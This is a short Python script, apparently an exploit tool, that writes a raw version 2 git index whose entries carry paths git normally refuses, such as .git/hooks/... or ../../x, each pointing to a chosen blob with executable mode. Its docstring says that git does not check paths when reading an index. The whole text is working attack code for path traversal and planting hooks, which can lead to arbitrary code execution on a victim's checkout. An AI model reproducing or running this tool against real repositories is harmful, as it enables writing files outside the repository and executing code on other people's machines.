#!/usr/bin/env python3
"""git-badindex.py INDEX BLOB-ID PATH...: write a version 2 git index whose
entries carry PATHs git itself would refuse (.git/hooks/..., ../../x): git
does not check paths when it reads an index. Each entry names BLOB-ID."""
import hashlib, struct, sys

out, blob, paths = sys.argv[1], bytes.fromhex(sys.argv[2]), sys.argv[3:]
body = b""
for p in sorted(paths):
    name = p.encode()
    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + blob + struct.pack(">H", min(len(name), 0xfff)) + name
    e += b"\0" * (8 - len(e) % 8)
    body += e
data = b"DIRC" + struct.pack(">II", 2, len(paths)) + body
open(out, "wb").write(data + hashlib.sha1(data).digest())
